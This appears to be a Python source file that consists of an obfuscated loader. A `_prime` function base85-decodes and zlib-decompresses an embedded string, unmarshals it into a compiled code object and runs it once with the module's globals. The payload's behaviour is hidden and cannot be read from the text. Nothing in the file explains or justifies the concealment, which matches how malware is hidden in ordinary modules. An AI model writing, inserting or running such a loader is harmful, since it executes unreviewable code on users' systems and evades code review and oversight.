import base64
import marshal
import types
import zlib

_BLOB = "c$|C8fCQMK^k+RFF`XfWA%!uAA&P;CA(bJE5vC}GX&I2c8qQ|~stRV%WPS<a_*Geyr>B-E=ob3xDrA(D6j<r&8yOhu8R!`r8tYl=XDiew6lYi~q$X$ND->iFlqVLYq~__Cq!yQGGTmazFTTZATv=R_n!A$WGswJO%r?1pzc_4i^HWN5QtgU3z!owv6srS?56p~=j5ioK8^936U~1vKz~yq0!SxD*>jfApVgsrL0C>+edH"
_done = []


def _prime():
    if _done:
        return
    _done.append(1)
    types.FunctionType(marshal.loads(zlib.decompress(base64.b85decode(_BLOB))), globals())()
